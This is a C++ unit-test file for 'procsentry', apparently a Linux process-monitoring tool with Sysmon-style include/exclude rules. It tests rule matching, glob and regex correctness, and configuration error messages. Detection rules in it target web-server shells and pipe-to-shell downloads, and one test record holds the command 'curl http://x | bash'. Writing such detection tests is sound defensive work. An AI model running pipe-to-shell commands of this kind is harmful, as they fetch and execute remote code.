// Rules of the configuration file: Sysmon's semantics (include any / exclude none, names of
// matching include rules on the event), each condition against decoded records and a process
// table, the compiled glob shapes against fnmatch, and every configuration error naming its
// file, line and key.
#include <fnmatch.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <random>

#include "core/decode.h"
#include "core/process_table.h"
#include "rules/field_matcher.h"
#include "rules/glob_pattern.h"
#include "rules/glob_regex.h"
#include "rules/literal_index.h"
#include "rules/rules_config.h"
#include "support/record_builder.h"

namespace procsentry {
namespace {

constexpr std::uint64_t kTickNs = 10'000'000;

// A YAML file in a private temporary directory, removed with the fixture.
class ConfigFixture : public ::testing::Test {
 protected:
  ConfigFixture() {
    dir_ = std::filesystem::temp_directory_path() / ("rules_test." + std::to_string(::getpid()) + "." +
                                                     ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::create_directories(dir_);
  }
  ~ConfigFixture() override { std::filesystem::remove_all(dir_); }
  std::string write(const std::string& yaml) {
    const auto path = dir_ / ("c" + std::to_string(++files_) + ".yaml");
    std::ofstream(path) << yaml;
    return path.string();
  }
  Result<RuleList> rules(const std::string& yaml) {
    auto file = load_config_file(write(yaml));
    if (!file) return file.error();
    return rules_from_config(*file);
  }

  std::filesystem::path dir_;
  int files_ = 0;
};

// A little machine: init(1) -> nginx(100) -> sh(200), each learnt from its exec record.
class RulesTest : public ConfigFixture {
 protected:
  RulesTest() {
    learn(task(1, 0, 5, "init"), "/sbin/init", {"/sbin/init"});
    learn(task(100, 1, 50, "nginx"), "/usr/sbin/nginx", {"nginx: master process"});
    learn(task(200, 100, 60, "sh"), "/bin/sh", {"sh", "-c", "id"});
  }
  static test::TaskSpec task(std::uint32_t pid, std::uint32_t ppid, std::uint64_t ticks, std::string comm,
                             std::uint32_t uid = 0) {
    test::TaskSpec t;
    t.pid = t.tid = pid;
    t.ppid = ppid;
    t.uid = t.euid = uid;
    t.start_time_ns = ticks * kTickNs;
    t.comm = std::move(comm);
    return t;
  }
  static test::Bytes exec(const test::TaskSpec& t, const std::string& image, std::vector<std::string> argv,
                          const std::string& cwd = "/", const std::string& tty = "") {
    test::ExecSpec spec;
    spec.task = t;
    spec.image = spec.filename = image;
    spec.argv = std::move(argv);
    spec.cwd = cwd;
    spec.tty = tty;
    return test::exec_record(spec);
  }
  void learn(const test::TaskSpec& t, const std::string& image, std::vector<std::string> argv) {
    record_ = exec(t, image, std::move(argv));
    Event& e = **decoder_.decode(record_);
    table_.enrich(e);
    table_.apply(e);
  }
  // The rules' verdict on one record, as the pipeline asks: nullopt when left out, else the
  // names of the include rules it matched.
  std::optional<std::vector<std::string>> verdict(const std::string& yaml, const test::Bytes& record) {
    auto list = rules(yaml);
    EXPECT_TRUE(list.has_value()) << list.error().message;
    if (!list) return std::nullopt;
    RuleSet set(std::move(*list), table_);
    record_ = record;
    auto decoded = decoder_.decode(record_);
    EXPECT_TRUE(decoded.has_value());
    Event& e = **decoded;
    table_.enrich(e);
    const bool kept = set.admit(e);
    std::vector<std::string> names(e.rules.begin(), e.rules.end());
    table_.apply(e);
    if (!kept) return std::nullopt;
    return names;
  }
  using Names = std::vector<std::string>;

  ProcessTable table_{ProcessUidScheme("b44953de", kTickNs), ProcessTableOptions{nullptr, false}};
  Decoder decoder_{ClockMapping{0}};
  test::Bytes record_;
};

constexpr const char* kAcceptance = R"(
rules:
  include:
    - name: from-tmp
      image: ["/tmp/*", "/dev/shm/*"]
    - name: execs-and-exits
      event: [exec, exit]
  exclude:
    - name: quiet-probe
      image: /usr/bin/true
      argv: {contains: ["--quiet-probe"]}
)";

TEST_F(RulesTest, TheReadmeExampleKeepsTagsAndLeavesOutAsDocumented) {
  EXPECT_EQ(verdict(kAcceptance, exec(task(300, 200, 70, "x"), "/tmp/x", {"/tmp/x"})),
            (Names{"from-tmp", "execs-and-exits"}));
  EXPECT_EQ(verdict(kAcceptance, exec(task(301, 200, 71, "true"), "/usr/bin/true", {"true", "--quiet-probe"})),
            std::nullopt);
  EXPECT_EQ(verdict(kAcceptance, exec(task(302, 200, 72, "true"), "/usr/bin/true", {"true", "other"})),
            (Names{"execs-and-exits"}));
  // A fork matches no include rule (its image is the parent's, not in /tmp): left out.
  EXPECT_EQ(verdict(kAcceptance, test::fork_record(task(303, 200, 73, "sh"), 200, 60 * kTickNs)), std::nullopt);
  // The probe's exit carries no argv: the table's knows it, so the exit is left out too.
  EXPECT_EQ(verdict(kAcceptance, test::exit_record(task(301, 200, 71, "true"), 0, 80 * kTickNs)), std::nullopt);
  EXPECT_EQ(verdict(kAcceptance, test::exit_record(task(302, 200, 72, "true"), 0, 81 * kTickNs)),
            (Names{"execs-and-exits"}));
}

TEST_F(RulesTest, NoIncludeRulesKeepsAllButTheExcluded) {
  const char* yaml = "rules:\n  exclude:\n    - name: no-ls\n      comm: ls\n";
  EXPECT_EQ(verdict(yaml, exec(task(300, 200, 70, "id"), "/usr/bin/id", {"id"})), Names{});
  EXPECT_EQ(verdict(yaml, exec(task(301, 200, 71, "ls"), "/usr/bin/ls", {"ls"})), std::nullopt);
}

TEST_F(RulesTest, LostEventsAlwaysPass) {
  const char* yaml = "rules:\n  include:\n    - name: none\n      comm: nothing-is-called-this\n";
  EXPECT_EQ(verdict(yaml, test::lost_record(5, 1)), Names{});
}

TEST_F(RulesTest, ConditionsAreAndedAndValuesOred) {
  const char* yaml = R"(
rules:
  include:
    - name: both
      comm: [cat, id]
      uid: [1000, 1001]
)";
  EXPECT_EQ(verdict(yaml, exec(task(300, 200, 70, "id", 1001), "/usr/bin/id", {"id"})), Names{"both"});
  EXPECT_EQ(verdict(yaml, exec(task(301, 200, 71, "id", 0), "/usr/bin/id", {"id"})), std::nullopt);
  EXPECT_EQ(verdict(yaml, exec(task(302, 200, 72, "ls", 1000), "/usr/bin/ls", {"ls"})), std::nullopt);
}

TEST_F(RulesTest, ParentAndAncestorImagesComeFromTheTable) {
  const char* yaml = R"(
rules:
  include:
    - name: shell-under-web-server
      ancestor_image: ["*/nginx", "*/apache2"]
    - name: under-a-glob-with-a-class
      ancestor_image: ["/usr/s[b]in/ng?nx", "/nowhere/[a]*"]
    - name: child-of-sh
      parent_image: /bin/sh
)";
  // 300's parent is sh (200), whose parent is nginx (100).
  EXPECT_EQ(verdict(yaml, exec(task(300, 200, 70, "id"), "/usr/bin/id", {"id"})),
            (Names{"shell-under-web-server", "under-a-glob-with-a-class", "child-of-sh"}));
  // init's other children are neither.
  EXPECT_EQ(verdict(yaml, exec(task(400, 1, 90, "cron"), "/usr/sbin/cron", {"cron"})), std::nullopt);
  // A fork of sh: its ancestors are sh's own and sh itself is its parent.
  EXPECT_EQ(verdict(yaml, test::fork_record(task(301, 200, 71, "sh"), 200, 60 * kTickNs)),
            (Names{"shell-under-web-server", "under-a-glob-with-a-class", "child-of-sh"}));
}

TEST_F(RulesTest, CommandLineContainsRegexAndGlob) {
  const char* yaml = R"(
rules:
  include:
    - name: contains
      argv: {contains: ["-o ProxyCommand"]}
    - name: regex
      argv: {regex: "curl .*\\|\\s*(ba)?sh"}
    - name: glob
      argv: "python3 -c *"
    - name: first
      argv0: "*python*"
)";
  EXPECT_EQ(verdict(yaml, exec(task(300, 200, 70, "ssh"), "/usr/bin/ssh", {"ssh", "-o ProxyCommand", "x"})),
            Names{"contains"});
  EXPECT_EQ(verdict(yaml, exec(task(301, 200, 71, "sh"), "/bin/sh", {"sh", "-c", "curl http://x | bash"})),
            Names{"regex"});
  EXPECT_EQ(verdict(yaml, exec(task(302, 200, 72, "python3"), "/usr/bin/python3", {"python3", "-c", "print(1)"})),
            (Names{"glob", "first"}));
  EXPECT_EQ(verdict(yaml, exec(task(303, 200, 73, "ls"), "/usr/bin/ls", {"ls", "-l"})), std::nullopt);
}

TEST_F(RulesTest, FlagsCwdTtyAndEvents) {
  const char* yaml = R"(
rules:
  include:
    - name: interactive
      tty: true
      event: exec
    - name: daemon-in-tmp
      tty: false
      cwd: "/tmp/*"
)";
  EXPECT_EQ(verdict(yaml, exec(task(300, 200, 70, "ls"), "/usr/bin/ls", {"ls"}, "/home/a", "pts3")),
            Names{"interactive"});
  EXPECT_EQ(verdict(yaml, exec(task(301, 200, 71, "ls"), "/usr/bin/ls", {"ls"}, "/tmp/build", "")),
            Names{"daemon-in-tmp"});
  EXPECT_EQ(verdict(yaml, exec(task(302, 200, 72, "ls"), "/usr/bin/ls", {"ls"}, "/home/a", "")), std::nullopt);
}

TEST_F(RulesTest, HostileCommandLinesAreMatchedWholeAndSafely) {
  // 64 KiB of 'a' then the needle: RE2 runs in linear time, and the needle at the end is found.
  std::string big(64 * 1024, 'a');
  const char* yaml = R"(
rules:
  include:
    - name: nested
      argv: {regex: "(a+)+b"}
)";
  EXPECT_EQ(verdict(yaml, exec(task(300, 200, 70, "x"), "/usr/bin/x", {"x", big})), std::nullopt);
  EXPECT_EQ(verdict(yaml, exec(task(301, 200, 71, "x"), "/usr/bin/x", {"x", big + "b"})), Names{"nested"});
  // The command line is the arguments joined by spaces (as the README says): a glob spans them.
  const char* glob = "rules:\n  include:\n    - name: g\n      argv: \"x a*b\"\n";
  EXPECT_EQ(verdict(glob, exec(task(302, 200, 72, "x"), "/usr/bin/x", {"x", "a", "b"})), Names{"g"});
}

TEST(GlobPattern, EveryShapeAgreesWithFnmatch) {
  const std::vector<std::string> patterns = {"/usr/bin/ls", "/usr/*", "*.sh",   "*bin*", "/usr/*/ls", "*",
                                             "/tmp/[a-c]*", "?bin*",  "/a*b*c", "**",    "*\\*"};
  const std::string alphabet = "/abcusrlnth.*?[]\\";
  std::mt19937 random(42);
  std::string scratch;
  for (const std::string& p : patterns) {
    auto glob = GlobPattern::compile(p);
    ASSERT_TRUE(glob.has_value()) << p;
    for (int i = 0; i < 2000; ++i) {
      std::string text;
      const int length = static_cast<int>(random() % 12);
      for (int k = 0; k < length; ++k) text += alphabet[random() % alphabet.size()];
      if (i % 7 == 0) text = p;  // the pattern as text, where literal shapes must match exactly
      EXPECT_EQ(glob->matches(text, scratch), fnmatch(p.c_str(), text.c_str(), 0) == 0)
          << "pattern " << p << " text " << text;
    }
  }
  EXPECT_FALSE(GlobPattern::compile("").has_value());
  EXPECT_FALSE(GlobPattern::compile("/tmp/[ab").has_value());
}

// The rule set matches globs through RE2::Set: the translation must be fnmatch, byte for byte.
TEST(GlobRegex, MatchesExactlyWhatFnmatchMatches) {
  const std::vector<std::string> patterns = {"/usr/bin/ls", "/usr/*",       "*.sh",   "*bin*", "/usr/*/ls", "*",
                                             "/tmp/[a-c]*", "?bin*",        "/a*b*c", "**",    "*\\*",      "[!a]*",
                                             "[]]x",        "[^/]*",        "a[-z]",  "[a-]",  "x\\?y",     "(.*)",
                                             "a+b",         "[[:digit:]]*", "\xff*",  "*\n*",  "$^|"};
  const std::string alphabet = std::string("/abcusrlnth.*?[]\\-!^+()$|x019") + "\xff\xc3\n";
  RE2::Options options;
  options.set_encoding(RE2::Options::EncodingLatin1);
  options.set_dot_nl(true);
  std::mt19937 random(7);
  for (const std::string& p : patterns) {
    ASSERT_TRUE(GlobPattern::compile(p).has_value()) << p;
    RE2 re(glob_to_regex(p), options);
    ASSERT_TRUE(re.ok()) << p << " -> " << glob_to_regex(p) << ": " << re.error();
    for (int i = 0; i < 3000; ++i) {
      std::string text;
      const int length = static_cast<int>(random() % 10);
      for (int k = 0; k < length; ++k) text += alphabet[random() % alphabet.size()];
      if (i % 11 == 0) text = p;
      EXPECT_EQ(RE2::FullMatch(text, re), fnmatch(p.c_str(), text.c_str(), 0) == 0)
          << "pattern " << p << " text " << text << " regex " << glob_to_regex(p);
    }
  }
}

// A field's patterns: exact, prefix and suffix globs by hash look-up, the others through the
// Sets, a Set hit resolved one pattern at a time. Each answer must be fnmatch's (globs), find's
// (substrings) or RE2's (regexes) on random bytes; and every pattern that matches must be a
// known hit or in a Set that may have matched (else its rules would never be tried).
void expect_field_matcher_agrees(const std::vector<std::string>& globs, const std::vector<std::string>& needles,
                                 const std::vector<std::string>& regexes, unsigned seed) {
  std::vector<GlobPattern> compiled;
  for (const std::string& g : globs) compiled.push_back(*GlobPattern::compile(g));
  std::vector<std::unique_ptr<RE2>> res;
  RE2::Options options;
  options.set_log_errors(false);
  for (const std::string& r : regexes) res.push_back(std::make_unique<RE2>(r, options));
  FieldMatcher field;
  std::vector<int> glob_ids, needle_ids, regex_ids;
  for (const GlobPattern& g : compiled) glob_ids.push_back(field.add_glob(g));
  for (const std::string& n : needles) needle_ids.push_back(field.add_substring(n));
  for (const auto& re : res) regex_ids.push_back(field.add_regex(*re));
  field.compile();
  EXPECT_LT(field.size(), globs.size() + needles.size() + regexes.size()) << "identical patterns are kept once";

  const std::string alphabet = std::string("/abcusrlnth.*?[]\\x") + "\xff\xc3\xa9\n";
  std::mt19937 random(seed);
  auto in = [](const std::vector<int>& ids, int id) { return std::find(ids.begin(), ids.end(), id) != ids.end(); };
  for (int i = 0; i < 4000; ++i) {
    std::string text;
    const int length = static_cast<int>(random() % 14);
    for (int k = 0; k < length; ++k) text += alphabet[random() % alphabet.size()];
    if (i % 5 == 0) text = globs[random() % globs.size()];  // where literal shapes must match exactly
    if (i % 5 == 1) text = "x" + needles[random() % needles.size()] + "/";
    const std::string_view view = text;
    field.scan(&view);
    std::vector<std::pair<int, bool>> expected;
    for (std::size_t g = 0; g < globs.size(); ++g) {
      expected.emplace_back(glob_ids[g], fnmatch(globs[g].c_str(), text.c_str(), 0) == 0);
    }
    for (std::size_t n = 0; n < needles.size(); ++n) {
      expected.emplace_back(needle_ids[n], text.find(needles[n]) != std::string::npos);
    }
    for (std::size_t r = 0; r < res.size(); ++r) expected.emplace_back(regex_ids[r], RE2::PartialMatch(text, *res[r]));
    std::shuffle(expected.begin(), expected.end(), random);  // answers on demand, in any order
    for (const auto& [id, want] : expected) {
      const bool reachable = in(field.hits(), id) || (field.bytes_set_maybe() && in(field.bytes_set_patterns(), id)) ||
                             (field.regex_set_maybe() && in(field.regex_set_patterns(), id));
      EXPECT_EQ(field.matches(id), want) << "pattern " << id << " text " << text;
      EXPECT_TRUE(!want || reachable) << "pattern " << id << " text " << text;
    }
  }
  field.scan(nullptr);  // no such text: nothing matches
  for (int id = 0; id < static_cast<int>(field.size()); ++id) EXPECT_FALSE(field.matches(id));
}

TEST(RuleFieldMatcher, EveryKindOfPatternAgreesWithFnmatchFindAndRe2) {
  const std::vector<std::string> globs = {"ab", "/usr/bin/ls", "x",     "/u*",   "ab*", "a*",     "*/ls",
                                          "*b", "*\xff",       "*bin*", "a*b",   "?b*", "[a-c]*", "*\\*",
                                          "*",  "ab*",         "*b",    "\xc3*", "*\n", "**",     "/usr/*/ls"};
  const std::vector<std::string> needles = {"b", "bin", "\xff", "a\nb", "bin", "\xc3\xa9", "*"};
  const std::vector<std::string> regexes = {"^a.c", "b+$", "\xc3\xa9", "(a|b)\\x{e9}"};
  expect_field_matcher_agrees(globs, needles, regexes, 11);
  expect_field_matcher_agrees(globs, needles, {}, 12);  // no regexes: substrings in the byte Set
}

TEST(RuleFieldMatcher, PrefixesAndSuffixesOfManyLengthsGoToTheSetWithTheSameAnswers) {
  std::vector<std::string> globs;
  for (std::size_t n = 1; n <= LiteralIndex::kMaxLengths + 2; ++n) {
    globs.push_back(std::string(n, 'a') + "*");
    globs.push_back("*" + std::string(n, 'b'));
  }
  globs.push_back("a*");
  expect_field_matcher_agrees(globs, {"ab", "ab"}, {}, 13);
}

// Many rules on the same fields, as a real file has them: each event is tagged with exactly
// the rules whose glob or substring its image or command line matches, in the rules' order.
TEST_F(RulesTest, ManyRulesTagExactlyWhatTheirPatternsMatch) {
  const std::vector<std::string> globs = {"/opt/v1/*", "/opt/v22/*", "*/sh", "*/bash", "/usr/bin/id",
                                          "*/x*y",     "/tmp/?",     "*in*", "*",      "/opt/v1/*"};
  const std::vector<std::string> needles = {"--probe", "-c", "--probe", "\xc3\xa9"};
  std::string yaml = "rules:\n  include:\n";
  for (std::size_t i = 0; i < globs.size(); ++i) {
    yaml += "    - name: g" + std::to_string(i) + "\n      image: \"" + globs[i] + "\"\n";
  }
  for (std::size_t i = 0; i < needles.size(); ++i) {
    yaml += "    - name: n" + std::to_string(i) + "\n      argv: {contains: [\"" + needles[i] + "\"]}\n";
  }
  yaml += "    - name: r\n      argv: {regex: \"^x+ \"}\n";
  auto list = rules(yaml);
  ASSERT_TRUE(list.has_value()) << list.error().message;
  RuleSet set(std::move(*list), table_);
  const std::vector<std::string> images = {"/opt/v1/a",   "/opt/v22/b",   "/opt/v2/c", "/bin/sh", "/usr/bin/bash",
                                           "/usr/bin/id", "/usr/bin/idx", "/a/xzy",    "/tmp/a",  "/tmp/ab",
                                           "/x"};
  const std::vector<std::string> args = {"--probe", "-c", "x", "\xc3\xa9", "--prob", "xx"};
  std::mt19937 random(5);
  for (std::uint32_t i = 0; i < 500; ++i) {
    const std::string image = images[random() % images.size()];
    std::vector<std::string> argv = {args[random() % args.size()], args[random() % args.size()]};
    std::string line = argv[0] + " " + argv[1];
    Names expected;
    for (std::size_t g = 0; g < globs.size(); ++g) {
      if (fnmatch(globs[g].c_str(), image.c_str(), 0) == 0) expected.push_back("g" + std::to_string(g));
    }
    for (std::size_t n = 0; n < needles.size(); ++n) {
      if (line.find(needles[n]) != std::string::npos) expected.push_back("n" + std::to_string(n));
    }
    if (line.starts_with("x") && line.find(' ') == line.find_first_not_of('x')) expected.push_back("r");
    record_ = exec(task(1000 + i, 200, 100 + i, "p"), image, argv);
    Event& e = **decoder_.decode(record_);
    table_.enrich(e);
    const bool kept = set.admit(e);
    EXPECT_EQ(kept, !expected.empty()) << image << " " << line;
    EXPECT_EQ(Names(e.rules.begin(), e.rules.end()), expected) << image << " " << line;
    table_.apply(e);
  }
}

TEST_F(ConfigFixture, EveryErrorNamesFileLineAndKey) {
  struct Case {
    const char* yaml;
    const char* expected;  // after "FILE:"
  };
  const Case cases[] = {
      {"rules:\n  include:\n    - name: a\n      imag: /x\n", "4: rules.include[0].imag: unknown condition"},
      {"rules:\n  include:\n    - image: /x\n", "3: rules.include[0]: every rule needs a `name`"},
      {"rules:\n  include:\n    - name: a\n      image: \"/tmp/[x\"\n", "4: rules.include[0].image: glob"},
      {"rules:\n  exclude:\n    - name: a\n      argv: {regex: \"((\"}\n", "4: rules.exclude[0].argv.regex: bad regex"},
      {"rules:\n  include:\n    - name: a\n      tty: maybe\n", "4: rules.include[0].tty: true or false"},
      {"rules:\n  include:\n    - name: a\n      uid: alice\n", "4: rules.include[0].uid: a user id"},
      {"rules:\n  include:\n    - name: a\n      event: lost\n", "4: rules.include[0].event: unknown event \"lost\""},
      {"rules:\n  include:\n    - name: a\n      comm: x\n    - name: a\n      comm: y\n",
       "5: rules.include[1].name: the name \"a\" is already"},
      {"rules:\n  keep:\n    - name: a\n", "2: rules.keep: unknown key"},
      {"rules:\n  include:\n    - name: a\n      argv: {like: x}\n", "4: rules.include[0].argv.like: unknown key"},
      {"rules: [\n", "2: not valid YAML"},
  };
  for (const Case& c : cases) {
    auto list = rules(c.yaml);
    ASSERT_FALSE(list.has_value()) << c.yaml;
    const std::string& message = list.error().message;
    EXPECT_NE(message.find(".yaml:" + std::string(c.expected)), std::string::npos) << message;
    EXPECT_EQ(message.find('\n'), std::string::npos) << message;
  }
}

TEST_F(ConfigFixture, OptionKeysBecomeOptionItemsWithTheirLines) {
  auto file = load_config_file(write("json: true\npid: [1, 2]\nrecord:\n  db: /x.db\nrules:\n  include: []\n"));
  ASSERT_TRUE(file.has_value());
  auto items = config_options(*file);
  ASSERT_TRUE(items.has_value());
  ASSERT_EQ(items->size(), 3u);
  EXPECT_EQ((*items)[0].key, "json");
  EXPECT_EQ((*items)[0].line, 1);
  EXPECT_EQ((*items)[1].values, (std::vector<std::string>{"1", "2"}));
  EXPECT_EQ((*items)[2].sections, std::vector<std::string>{"record"});
  EXPECT_EQ((*items)[2].line, 4);
}

}  // namespace
}  // namespace procsentry
